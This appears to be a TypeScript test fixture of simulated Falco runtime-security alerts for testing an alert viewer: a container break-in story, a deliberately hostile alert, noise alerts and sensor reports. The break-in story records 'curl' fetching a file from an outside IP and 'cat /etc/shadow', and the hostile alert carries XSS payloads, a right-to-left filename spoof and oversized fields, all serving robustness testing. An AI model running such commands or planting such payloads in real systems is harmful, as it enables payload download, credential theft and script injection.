/** Alerts as sensors send them, for tests of the pages: an ordinary break-in with its story, and one that is hostile to whoever shows it. */

const startMs = Date.now() - 10 * 60_000;
const ns = (offsetMs: number): string => `${startMs + offsetMs}000000`;

const process = (pid: number, name: string, cmdline: string, containerId = 'c0ffee112233'): object => ({
  ...{
    pid,
    name,
    exePath: `/usr/bin/${name}`,
    cmdline,
    user: pid === 1 ? 'root' : 'www-data',
    startNs: ns(-pid),
  },
  containerId,
});

export const shellFields = {
  'evt.type': 'execve',
  'evt.time': 1610667584834631763n,
  'proc.name': 'bash',
  'proc.pid': 4711,
  'proc.cmdline': 'bash -i',
  'proc.pname': 'nginx',
  'proc.exepath': '/usr/bin/bash',
  'user.name': 'www-data',
  'user.loginname': '<NA>',
  'fd.name': null,
  'container.id': 'c0ffee112233',
  'container.name': 'web',
  'container.image.repository': 'registry.example/shop/web',
  'k8s.ns.name': 'shop',
  'k8s.pod.name': 'web-5d9f',
  'k8s.user.name': 'eve@example.org',
} as const;

const story = {
  key: 'story-1',
  process: process(4711, 'bash', 'bash -i'),
  ancestors: [
    process(812, 'nginx', 'nginx: worker process'),
    process(640, 'nginx', 'nginx: master process nginx -g daemon off;'),
    process(580, 'containerd-shim', 'containerd-shim -namespace k8s.io', ''),
    process(1, 'systemd', '/sbin/init', ''),
  ],
  siblings: [process(4700, 'sh', 'sh -c id')],
  children: [
    process(4720, 'curl', 'curl -s http://203.0.113.7/x -o /tmp/x'),
    process(4721, 'cat', 'cat /etc/shadow'),
  ],
  before: [
    {
      timeNs: ns(-2_300),
      type: 'accept4',
      pid: 812,
      processName: 'nginx',
      text: 'took a connection from 198.51.100.9',
    },
    {
      timeNs: ns(-120),
      type: 'openat',
      pid: 812,
      processName: 'nginx',
      text: 'opened /var/www/upload.php for reading',
    },
    { timeNs: ns(-15), type: 'execve', pid: 4700, processName: 'sh', text: 'started: sh -c id' },
  ],
  after: [
    {
      timeNs: ns(900),
      type: 'execve',
      pid: 4720,
      processName: 'curl',
      text: 'started: curl -s http://203.0.113.7/x -o /tmp/x',
    },
    { timeNs: ns(950), type: 'connect', pid: 4720, processName: 'curl', text: 'connected to 203.0.113.7:80' },
    {
      timeNs: ns(4_200),
      type: 'openat',
      pid: 4721,
      processName: 'cat',
      text: 'opened /etc/shadow for reading',
    },
  ],
  condition: {
    holds: true,
    text: 'and',
    terms: [
      { holds: true, text: 'evt.type in (execve, execveat)', value: 'execve' },
      { holds: true, text: 'container.id != host', value: 'c0ffee112233' },
      {
        holds: true,
        text: 'or',
        terms: [
          { holds: true, text: 'proc.name = bash', value: 'bash' },
          { holds: false, text: 'proc.name = zsh', value: 'bash' },
        ],
      },
      { holds: true, text: 'not', terms: [{ holds: false, text: 'proc.pname = cron', value: 'nginx' }] },
    ],
  },
} as const;

const at = (offsetMs: number): string => `${new Date(startMs + offsetMs).toISOString().slice(0, 23)}000000Z`;

/** JavaScript has no way to write large numbers with all digits but this. */
function line(value: object): string {
  return JSON.stringify(value, (_, part) => (typeof part === 'bigint' ? `bigint:${part}` : part)).replace(
    /"bigint:(\d+)"/g,
    '$1',
  );
}

export const SHELL_RULE = 'Terminal shell in container';

export const shellAlert: string = line({
  uuid: '0f0e0d0c-0b0a-4909-8807-060504030201',
  output: `${at(0).slice(11, 29)}: Notice A shell was spawned in a container (user=www-data command=bash -i)`,
  priority: 'Critical',
  rule: SHELL_RULE,
  time: at(0),
  source: 'syscall',
  hostname: 'node-7',
  tags: ['container', 'shell', 'mitre_execution', 'T1059.004'],
  output_fields: shellFields,
  story,
});

const HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
export const RTL = '\u202egnp.exe\u202c';

export const hostileAlert: string = line({
  uuid: '11111111-2222-4333-8444-555555555555',
  output: `10:00:00.000000000: Error ${HTML} ${RTL} \u0000 日本語 한국어 Größe`,
  priority: 'Error',
  rule: `${HTML} ${RTL} 日本語 한국어 Größe`,
  time: at(60_000),
  source: 'syscall',
  hostname: HTML,
  tags: [HTML, 'javascript:alert(3)', 'mitre_<b>'],
  output_fields: {
    'evt.type': 'openat',
    'proc.name': `${HTML}${RTL}`,
    'proc.pname': HTML,
    'fd.name': `/tmp/\u0000${RTL}/${HTML}`,
    'user.name': HTML,
    'k8s.user.name': HTML,
    // The hub shortens texts, but not lists.
    'proc.args': ['x'.repeat(1_000_000)],
    [HTML]: HTML,
    __proto__name: 'x',
  },
});

/** Many of the same, so that there are incidents. */
export const noiseAlerts: readonly string[] = Array.from({ length: 40 }, (_, i) =>
  line({
    output: `10:00:00.000000000: Notice Package manager run (command=apt-get update number=${i})`,
    priority: i % 2 === 0 ? 'Notice' : 'Warning',
    rule: i < 30 ? 'Launch package management in container' : 'Read sensitive file untrusted',
    time: at(-3_600_000 + i * 60_000),
    source: 'syscall',
    hostname: 'node-7',
    tags: ['container', 'mitre_persistence'],
    output_fields: {
      'evt.type': i < 30 ? 'execve' : 'openat',
      'proc.name': i < 30 ? 'apt-get' : 'backup',
      'proc.pname': i % 3 === 0 ? 'cron' : 'sh',
      'proc.cmdline': 'apt-get update',
      'fd.name': '/etc/shadow',
      'user.name': 'root',
      'container.id': 'abcdefabcdef',
      'container.name': 'builder',
      'container.image.repository': 'registry.example/ci/builder',
      'k8s.ns.name': 'ci',
      'k8s.pod.name': `builder-${i % 4}`,
      'proc.pid': 100 + i,
    },
  }),
);

/** What Falco tells of itself, what it lost, and what a sensor of ours did not see, `agoMs` ago. */
export function sensorReports(agoMs: number): readonly string[] {
  const at = (more: number): string => new Date(Date.now() - agoMs - more).toISOString();
  const report = (hostname: string, rule: string, fields: Readonly<Record<string, unknown>>): string =>
    JSON.stringify({
      ...{ hostname, rule, output: rule, priority: 'Informational', source: 'internal', time: at(0) },
      output_fields: fields,
    });
  return [
    report('falco-1', 'Falco internal: metrics snapshot', {
      'falco.version': '0.43.0',
      'falco.cpu_usage_perc': 1.5,
      'falco.memory_rss_mb': 64,
      'falco.duration_sec': 7_200,
      'scap.n_evts': 1_000_000,
      'scap.n_drops': 12,
    }),
    report('falco-1', 'Falco internal: syscall event drop', { n_drops: '12' }),
    report('node-1', 'Peregrine internal: coverage gap', {
      ...{ cgroup: '/kubepods/<b>noisy</b>', 'container.name': 'batch', n_dropped: '200', n_limited: '5000' },
      ...{ from: at(120_000), to: at(60_000) },
    }),
  ];
}
